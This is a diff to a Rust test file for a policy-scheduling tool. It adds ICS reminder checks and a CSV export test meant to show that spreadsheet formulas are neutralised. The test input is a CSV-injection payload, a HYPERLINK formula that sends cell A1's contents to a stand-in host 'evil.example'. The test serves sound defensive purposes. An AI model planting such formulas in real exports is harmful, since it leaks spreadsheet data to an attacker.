@@ -68,6 +68,10 @@ fn json_schema_is_stable() {
                 "policy",
                 "policy_code",
                 "policy_title",
+                "registered_manager",
+                "registration_no",
+                "regulator",
+                "service",
                 "status",
                 "variant"
             ]
@@ -82,8 +86,17 @@ fn ics_matches_the_schedule() {
     assert_eq!(run.code, 0, "{}", run.stderr);
     assert!(run.stdout.starts_with("BEGIN:VCALENDAR\r\n"));
     assert_eq!(run.stdout.matches("BEGIN:VEVENT").count(), 9);
-    assert!(run.stdout.contains("UID:leap-day.handbook@policygen\r\n"));
+    assert!(run.stdout.contains("BEGIN:VALARM\r\n"));
     assert_snapshot("expected/due/reviews.ics", &run.stdout);
+    // Reminders come the --within window ahead.
+    let run = library.run(&["due", "--format", "ics", "--within", "14"]);
+    assert_eq!(
+        run.stdout.matches("TRIGGER:-P14D\r\n").count(),
+        5,
+        "{}",
+        run.stdout
+    );
+    assert_eq!(run.stdout.matches("TRIGGER:PT9H\r\n").count(), 4);
 }
 
 #[test]
@@ -367,4 +380,110 @@ fn an_empty_selection_says_so() {
     );
     let json = due_json(&library, TODAY, &[]);
     assert_eq!(json["schedule"], Value::Array(vec![]));
+}
+
+/// An organisation name built to break spreadsheets: a formula, commas,
+/// quotes and a line break.
+const HOSTILE: &str =
+    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click, \"\"here\"\"\")\nSecond line, Ltd";
+
+fn hostile_library() -> Library {
+    let library = Library::new("");
+    let yaml_name = HOSTILE
+        .replace('\\', "\\\\")
+        .replace('"', "\\\"")
+        .replace('\n', "\\n");
+    library.write(
+        "organisations/hostile.yaml",
+        &format!(
+            "name: \"{yaml_name}\"\nregistration_no: \"1-987654321\"\njurisdiction: cqc\nservice: care-home\nregistered_manager: {{ first_name: \"@Ann\", last_name: \"-Lee\" }}\n"
+        ),
+    );
+    library
+}
+
+/// Parses CSV text with the `csv` crate: header and records.
+fn parse_csv(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let header = reader.headers().unwrap().iter().map(String::from).collect();
+    let records = reader
+        .records()
+        .map(|r| r.unwrap().iter().map(String::from).collect())
+        .collect();
+    (header, records)
+}
+
+#[test]
+fn csv_survives_a_hostile_name_and_cannot_run_formulas() {
+    let library = hostile_library();
+    let run = library.run(&["due", "--format", "csv"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert!(
+        !run.stdout.starts_with('\u{feff}'),
+        "no byte-order mark on stdout"
+    );
+    // RFC 4180: CRLF after every record, the line break inside a quoted field.
+    assert!(run.stdout.ends_with("\r\n"));
+    let (header, records) = parse_csv(&run.stdout);
+    assert_eq!(
+        header,
+        [
+            "org",
+            "org_name",
+            "registration_no",
+            "regulator",
+            "service",
+            "registered_manager",
+            "policy",
+            "policy_title",
+            "policy_code",
+            "variant",
+            "last_review",
+            "next_review",
+            "cycle",
+            "days_left",
+            "status",
+            "approval"
+        ]
+    );
+    let json = due_json(&library, TODAY, &[]);
+    assert_eq!(records.len(), json["schedule"].as_array().unwrap().len());
+    let hostile = records.iter().find(|r| r[0] == "hostile").unwrap();
+    // Read back as the text written, with the formula neutralised by a leading '.
+    assert_eq!(hostile[1], format!("'{HOSTILE}"));
+    assert_eq!(hostile[5], "'@Ann -Lee");
+    assert_eq!(hostile[3], "CQC");
+    let good = records.iter().find(|r| r[0] == "good-home").unwrap();
+    assert_eq!(good[1], "Good Home");
+    // The same fields as the JSON, row for row.
+    for (record, row) in records.iter().zip(json["schedule"].as_array().unwrap()) {
+        assert_eq!(record[0], row["org"].as_str().unwrap());
+        assert_eq!(record[11], row["next_review"].as_str().unwrap());
+        assert_eq!(record[13], row["days_left"].to_string());
+        assert_eq!(record[14], row["status"].as_str().unwrap());
+        assert_eq!(record[15], row["approval"].as_str().unwrap());
+    }
+    // Every JSON field has its column.
+    let fields = json["schedule"][0].as_object().unwrap();
+    assert_eq!(fields.len(), header.len());
+    assert!(fields.keys().all(|k| header.contains(k)), "{fields:?}");
+    // No cell a spreadsheet would evaluate (a number of days may be negative).
+    for record in &records {
+        for (i, cell) in record.iter().enumerate() {
+            if i != 13 {
+                assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell:?}");
+            }
+        }
+    }
+
+    // out/schedule.csv: the same rows, after a byte-order mark for Excel.
+    library.run(&["build", "--format", "md"]).success();
+    let file = library.read("out/schedule.csv");
+    assert_eq!(file, format!("\u{feff}{}", run.stdout));
+    let mut reader = csv::Reader::from_path(library.path().join("out/schedule.csv")).unwrap();
+    assert_eq!(
+        &reader.headers().unwrap()[0],
+        "org",
+        "the csv crate skips the mark"
+    );
 }
